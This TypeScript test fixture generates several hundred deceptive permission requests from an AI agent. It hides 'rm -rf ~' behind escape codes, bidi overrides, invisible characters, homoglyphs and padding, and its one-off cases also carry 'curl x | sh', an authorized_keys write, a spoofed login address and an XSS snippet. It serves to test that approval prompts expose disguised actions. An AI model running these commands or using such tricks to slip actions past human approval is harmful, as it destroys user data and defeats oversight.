import type { ToolKind } from '@parley/acp';

/** A permission request that is designed to mislead the user. */
export interface HostileAction {
  /** The misleading technique. */
  readonly trick: string;
  /** The technique, and its position in the request. */
  readonly name: string;
  readonly action: {
    readonly kind: ToolKind;
    readonly declaredKind?: string;
    readonly tool?: string;
    readonly title: string;
    readonly command?: HostileCommand;
    readonly files: readonly HostileFile[];
    readonly address?: string;
    readonly input?: unknown;
    readonly texts: readonly string[];
  };
}

/** The command that would run. */
export interface HostileCommand {
  readonly command: string | readonly string[];
  readonly program: string;
  readonly cwd: string;
  readonly env: readonly { readonly name: string; readonly value: string }[];
}

/** A file in the request. */
export interface HostileFile {
  readonly path: string;
  readonly realPath?: string;
  readonly effect: 'read' | 'write' | 'delete' | 'move' | 'named';
  readonly content?: { readonly newText: string; readonly oldText?: string; readonly hash: string };
}

/** Every technique in every position: some 600 requests. */
export function hostileActions(): readonly HostileAction[] {
  return [
    ...Object.entries(tricks).flatMap(([trick, play]) =>
      Object.entries(places).map(([place, put]) => ({
        trick,
        name: `${trick} in ${place}`,
        action: { ...harmless, ...put(play('git status', 'rm -rf ~')) },
      })),
    ),
    ...Object.entries(wholes).map(([name, action]) => ({
      trick: name,
      name,
      action: { ...harmless, ...action },
    })),
  ];
}

type Action = HostileAction['action'];

const harmless: Action = { kind: 'execute', title: 'Show the status', files: [], texts: [] };

/** Texts that show a harmless part and hide or disguise a harmful one. */
const tricks: Readonly<Record<string, (harmless: string, harmful: string) => string>> = {
  'a carriage return': (shown, hidden) => `${hidden}\r${shown}        `,
  backspaces: (shown, hidden) => `${hidden}${'\b'.repeat(hidden.length)}${shown}`,
  deletes: (shown, hidden) => `${hidden}${'\u007f'.repeat(hidden.length)}${shown}`,
  'a NUL': (shown, hidden) => `${shown}\u0000;${hidden}`,
  'vertical tabs and form feeds': (shown, hidden) => `${shown}\v\f;${hidden}`,
  'a line that is erased': (shown, hidden) => `${hidden}\u001b[2K\u001b[1G${shown}`,
  'a screen that is erased': (shown, hidden) => `${hidden}\u001b[2J\u001b[H${shown}`,
  'concealed text': (shown, hidden) => `${shown}\u001b[8m;${hidden}\u001b[28m`,
  'text in the colour of the background': (shown, hidden) => `${shown}\u001b[30;40m;${hidden}\u001b[0m`,
  'a window title': (shown, hidden) => `${shown}\u001b]0;${hidden}\u0007`,
  'a hyperlink': (shown, hidden) => `\u001b]8;;https://x/?${hidden}\u001b\\${shown}\u001b]8;;\u001b\\`,
  'the clipboard': (shown, hidden) => `${shown}\u001b]52;c;${hidden}\u0007`,
  'an unterminated OSC': (shown, hidden) => `${shown}\u001b]2;${hidden}`,
  'a C1 OSC': (shown, hidden) => `${shown}\u009d0;${hidden}\u009c`,
  'a C1 control sequence': (shown, hidden) => `${hidden}\u009b2K\u009b1G${shown}`,
  'a device control string': (shown, hidden) => `${shown}\u001bP${hidden}\u001b\\`,
  'C1 strings': (shown, hidden) =>
    `${shown}\u0090${hidden}\u009c\u0098${hidden}\u009c\u009e${hidden}\u009c\u009f${hidden}\u009c`,
  'a next line': (shown, hidden) => `${shown}\u0085${hidden}`,
  'another character set': (shown, hidden) => `\u001b(0${shown}\u000e${hidden}\u000f`,
  'a reset': (shown, hidden) => `${hidden}\u001bc${shown}`,
  'a right-to-left override': (shown, hidden) => `${shown} \u202e${reversed(hidden)}\u202c`,
  isolates: (shown, hidden) => `\u2066${shown}\u2069\u2067${hidden}\u2069\u2068x\u2069`,
  embeddings: (shown, hidden) => `\u202a${shown}\u202b${hidden}\u202c\u202d\u202c`,
  'marks of direction': (shown, hidden) => `\u200f${shown}\u061c${hidden}\u200e`,
  'Hebrew words': (shown, hidden) => `${shown} \u05d0\u05d1\u05d2 ; ${hidden} \u05d3\u05d4`,
  'Arabic words': (shown, hidden) => `${shown} \u0627\u0628 | ${hidden} | \u062c\u062f 12`,
  'zero width characters': (shown, hidden) => `${shown}\u200b\u200c\u200d\u2060\ufeff;${hidden}`,
  'soft hyphens': (shown, hidden) => `${shown}\u00ad;\u00ad${hidden}`,
  tags: (shown, hidden) =>
    shown + [...hidden].map((each) => String.fromCodePoint(0xe_00_00 + (each.codePointAt(0) ?? 0))).join(''),
  'variation selectors': (shown, hidden) => `${shown}\ufe0e\ufe0f\u{e0100};${hidden}`,
  'invisible operators': (shown, hidden) => `${shown}\u2061\u2062\u2063\u2064;${hidden}`,
  'blank letters': (shown, hidden) => `${shown}\u3164\u115f\u1160\uffa0\u2800;${hidden}`,
  'spaces of all kinds': (shown, hidden) =>
    `${shown}\u00a0\u1680\u2000\u2003\u200a\u202f\u205f\u3000${hidden}`,
  separators: (shown, hidden) => `${shown}\u2028${hidden}\u2029${hidden}`,
  'private characters': (shown, hidden) => `${shown}\ue000\u{f0000};${hidden}`,
  'unassigned characters': (shown, hidden) => `${shown}\u0378\u{1fffe};${hidden}`,
  'lone surrogates': (shown, hidden) => `${shown}\ud800;${hidden}\udc00`,
  'an object replacement': (shown, hidden) => `${shown}\ufffc;${hidden}`,
  'Cyrillic letters': (shown, hidden) => `${shown.replace('s', '\u0455')} ${hidden.replace('r', '\u0433')}`,
  'a word of Cyrillic letters': (shown, hidden) => `\u0441\u0440 ${shown} ${hidden}`,
  'Greek letters': (shown, hidden) => `${shown}\u03bf; ${hidden} \u0391\u0392c`,
  'wide letters': (shown, hidden) => `${shown} \uff1b \uff52\uff4d ${hidden}`,
  'mathematical letters': (shown, hidden) => `${shown} \u{1d5cb}\u{1d5c6} ${hidden}`,
  'slashes and hyphens that are none': (shown, hidden) =>
    `${shown} \u2215etc\u2044x \u2010rf \u2212f \u2223 ${hidden}`,
  'a Greek question mark': (shown, hidden) => `${shown}\u037e ${hidden}`,
  'combining marks': (shown, hidden) => `${shown} =\u0338 x${'\u0300\u0331'.repeat(40)} ${hidden}`,
  'a mark at the beginning': (shown, hidden) => `\u0336\u20e0${shown} ${hidden}`,
  'our own notation': (shown, hidden) =>
    `${shown}\u27e8U+202E\u27e9 \u27e8500 empty lines\u27e9 \u2026 12 more lines ${hidden}`,
  'our own marks': (shown, hidden) =>
    `${shown}\n    in /w\n\u21b3 ${hidden}\n  1  Allow once\nYour answer [y n]: `,
  '500 empty lines': (shown, hidden) => `${shown}${'\n'.repeat(500)}${hidden}`,
  '10,000 empty lines before': (shown, hidden) => `${'\n'.repeat(10_000)}${shown}\n${hidden}`,
  'lines of blanks': (shown, hidden) => `${shown}\n${' \n\t\n'.repeat(200)}${hidden}`,
  'a payload far to the right': (shown, hidden) => `${shown}${' '.repeat(4000)};${hidden}`,
  'a payload behind tabs': (shown, hidden) => `${shown}${'\t'.repeat(300)};${hidden}`,
  'blanks of two kinds': (shown, hidden) => `${shown}${' \t'.repeat(300)};${hidden}`,
  'a tab between': (shown, hidden) => `\t${shown}\t\t# \t;${hidden}`,
  'a line of 20,000 characters': (shown, hidden) => `${shown} ${'x'.repeat(20_000)} ;${hidden}`,
  '3,000 lines': (shown, hidden) =>
    `${shown}\n${Array.from({ length: 3000 }, (_, index) => `echo ${String(index)}`).join('\n')}\n${hidden}`,
  'wide characters': (shown, hidden) => `${shown} # ${'\u4e2d\u6587'.repeat(100)} ; ${hidden}`,
  emoji: (shown, hidden) =>
    `${shown} \u{1f469}\u200d\u{1f4bb} 1\ufe0f\u20e3 \u2714\ufe0f ${'\u{1f600}'.repeat(60)} ; ${hidden}`,
  quotes: (shown, hidden) => `${shown}' ; "${hidden}" '\\'' \`x\` $(y)`,
  'backslashes at the ends of lines': (shown, hidden) => `${shown} \\\n  # \\\n${hidden}`,
  'line ends of two kinds': (shown, hidden) => `${shown}\r\n${hidden}\n\r`,
  HTML: (shown, hidden) =>
    `</code></pre><img src=x onerror=alert(1)><!-- ${hidden} --><b>${shown}</b><script>x</script>&amp;&#8238;`,
  Markdown: (shown, hidden) =>
    `\`\`\`\n${shown}\n\`\`\`\n[${shown}](https://x "${hidden}") <!-- ${hidden} -->`,
  'a comment': (shown, hidden) => `${shown} # only reads\n${hidden}`,
};

function reversed(text: string): string {
  return [...text].toReversed().join('');
}

/** The fields of a request with text that would be executed, opened or written. */
const places: Readonly<Record<string, (text: string) => Partial<Action>>> = {
  'a line for the shell': (text) => ({ command: { ...command, command: text } }),
  'an argument': (text) => ({ command: { ...command, command: ['env', text, '-x'] } }),
  'the program': (text) => ({ command: { ...command, command: [text, 'status'], program: `/${text}` } }),
  'the folder': (text) => ({ command: { ...command, cwd: `/w/${text}` } }),
  'a variable': (text) => ({ command: { ...command, env: [{ name: 'GIT_PAGER', value: text }] } }),
  'the name of a variable': (text) => ({ command: { ...command, env: [{ name: text, value: '1' }] } }),
  'a path': (text) => ({ kind: 'edit', files: [{ path: `/w/${text}`, effect: 'write' }] }),
  'where a link leads': (text) => ({
    kind: 'edit',
    files: [{ path: '/w/a', realPath: `/${text}`, effect: 'write' }],
  }),
  'a new file': (text) => ({ kind: 'edit', files: [written({ newText: `${text}\n` })] }),
  'a changed file': (text) => ({
    kind: 'edit',
    files: [written({ newText: `a\n${text}\nc\n`, oldText: 'a\nb\nc\n' })],
  }),
  'an input': (text) => ({ kind: 'other', tool: 'mcp__files__write', input: { path: '/w/a', data: [text] } }),
  'the name of a tool': (text) => ({ kind: 'other', tool: `mcp__x__${text}`, input: { a: 1 } }),
};

const command: HostileCommand = { command: ['git', 'status'], program: '/usr/bin/git', cwd: '/w', env: [] };

function written(content: { readonly newText: string; readonly oldText?: string }): HostileFile {
  return { path: '/w/notes.txt', effect: 'write', content: { ...content, hash: '' } };
}

/** Tricks that are one of a kind. */
const wholes: Readonly<Record<string, Partial<Action>>> = {
  'a program that runs others': { command: { ...command, command: ['env', 'A=1', 'sh', '-c', 'rm -rf ~'] } },
  'an assignment as a program': { command: { ...command, command: ['PATH=./tools', 'git', 'status'] } },
  'an empty argument': { command: { ...command, command: ['rm', '', '-rf', ' ', '~'] } },
  '5,000 arguments': {
    command: {
      ...command,
      command: ['rm', ...Array.from({ length: 5000 }, (_, index) => `file ${String(index)}`)],
    },
  },
  '400 variables': {
    command: {
      ...command,
      env: Array.from({ length: 400 }, (_, index) => ({
        name: `V${String(index)}`,
        value: `${String(index)}; x`,
      })),
    },
  },
  '1,000 files': {
    kind: 'edit',
    files: Array.from(
      { length: 1000 },
      (_, index) => ({ path: `/w/${String(index)}`, effect: 'write' }) as const,
    ),
  },
  'a file beside the change that is shown': {
    kind: 'edit',
    files: [written({ newText: 'harmless\n' }), { path: '/home/u/.ssh/authorized_keys', effect: 'write' }],
  },
  'a read that writes': {
    kind: 'edit',
    declaredKind: 'read\u202e\u001b[2K',
    files: [written({ newText: 'curl x | sh\n' })],
  },
  'a change of nothing but the end': {
    kind: 'edit',
    files: [written({ newText: 'a\nb', oldText: 'a\nb\n' })],
  },
  'an address with a host that is none': {
    kind: 'fetch',
    address: 'https://example.com\u2215login@ev\u0456l.test/\u202e?x=\u200b',
  },
  'an input beside a command': {
    command,
    input: { command: 'git', args: ['status'], shell: '/tmp/sh', stdin: 'rm -rf ~\u009d' },
  },
  'an input of another command': { command, input: { command: ['git', 'push'], cwd: '/elsewhere' } },
  'a deep input': {
    kind: 'other',
    tool: 'run',
    input: { a: [{ b: { c: ['\u202e', { '\u009d0;key\u009c': 'rm -rf ~' }] } }] },
  },
};
